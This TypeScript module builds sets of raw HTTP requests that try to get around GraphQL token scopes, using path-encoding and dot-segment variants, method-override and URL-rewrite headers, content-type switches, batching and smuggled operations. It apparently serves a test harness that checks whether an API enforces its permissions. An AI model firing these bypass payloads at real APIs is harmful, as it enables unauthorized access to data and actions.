import type { RawRequest } from './program.js';

/** Spellings of one address, some of which lead to it and some nowhere. */
const PATHS = [
  '/graphql',
  '/graphql/',
  '//graphql',
  '/GraphQL',
  '/%67raphql',
  '/graphql%2f',
  '/./graphql',
  '/public/../graphql',
  '/files/%2e%2e/graphql',
  '/graphql;read=1',
  '/graphql?operationName=Read',
  '/graphql#/viewer',
  '/graphql%23viewer',
  '/graphql%3fquery={viewer{id}}',
  '/graphql%00',
  '/graphql/.',
  '/graphql\\',
  '/graphql%20',
  '/graphql?scope=measure',
  '/graphql/../graphql',
] as const;

const JSON_BODY = { 'Content-Type': 'application/json' };
const PREFLIGHTED = { 'apollo-require-preflight': 'true' };

type Asked = { mutation: string; query: string };
type Carrier = (path: string, asked: Asked) => RawRequest;

const post =
  (body: (asked: Asked) => unknown, headers: Record<string, string> = {}): Carrier =>
  (path, asked) => ({
    method: 'POST',
    path,
    headers: { ...JSON_BODY, ...headers },
    body: JSON.stringify(body(asked)),
  });
const address =
  (method: string, document: (asked: Asked) => string): Carrier =>
  (path, asked) => ({
    method,
    path: `${path}${path.includes('?') ? '&' : '?'}${new URLSearchParams({ query: document(asked) }).toString()}`,
    headers: PREFLIGHTED,
  });
const typed =
  (type: string, body: (asked: Asked) => string): Carrier =>
  (path, asked) => ({
    method: 'POST',
    path,
    headers: { 'Content-Type': type, ...PREFLIGHTED },
    body: body(asked),
  });
const named = (document: string): string => document.replace(/^(query|mutation)? ?\{/, 'mutation Bad {');

/** Ways to ask for what was not entrusted. */
const CARRIERS: readonly Carrier[] = [
  post(({ mutation }) => ({ query: mutation })),
  post(({ query }) => ({ query })),
  post(({ mutation }) => [{ query: '{ viewer { id } }' }, { query: mutation }]),
  address('GET', ({ mutation }) => mutation),
  address('GET', ({ query }) => query),
  address('HEAD', ({ query }) => query),
  (path, { mutation }) => ({
    method: 'PUT',
    path,
    headers: JSON_BODY,
    body: JSON.stringify({ query: mutation }),
  }),
  post(({ mutation }) => ({ query: mutation }), {
    'X-HTTP-Method-Override': 'GET',
    'X-HTTP-Method': 'GET',
    'X-Method-Override': 'GET',
  }),
  post(({ mutation }) => ({
    query: `query Read { viewer { id } } ${named(mutation)}`,
    operationName: 'Bad',
  })),
  post(({ query }) => ({
    query: `query Read { ...Hidden viewer { id } } fragment Hidden on Query ${query}`,
    operationName: 'Read',
  })),
  post(({ query }) => ({
    query: query
      .replace('{ ', 'query Read($no: Boolean = true) { viewer { id } read: ')
      .replace(/ \{/, ' @include(if: $no) {'),
  })),
  typed('application/x-www-form-urlencoded', ({ mutation }) =>
    new URLSearchParams({ query: mutation }).toString(),
  ),
  typed('text/plain', ({ mutation }) => JSON.stringify({ query: mutation })),
  typed('application/graphql', ({ mutation }) => mutation),
  post(({ query }) => ({ query: '{ viewer { id } }', __proto__: null, variables: { query }, Query: query })),
  post(({ query }) => ({ query: query.replace('{ ', '{ viewer { id } viewer2: viewer { id } ') }), {
    'X-Original-URL': '/public/report.css',
    'X-Rewrite-URL': '/livez',
  }),
];

/**
 * So many different tricks to get more from the API than a token was entrusted with, spread over all of them.
 *
 * @param asked a mutation and a query that the token may not ask
 * @example apiTricks(40, { mutation: 'mutation { … }', query: '{ journal { total } }' }).length // 40
 */
export function apiTricks(count: number, asked: Asked): RawRequest[] {
  const all = PATHS.flatMap((path) => CARRIERS.map((carrier) => carrier(path, asked)));
  const step = Math.max(1, all.length / count);
  return Array.from(
    { length: Math.min(count, all.length) },
    (_, index) => all[Math.floor(index * step)],
  ).filter((one) => one !== undefined);
}
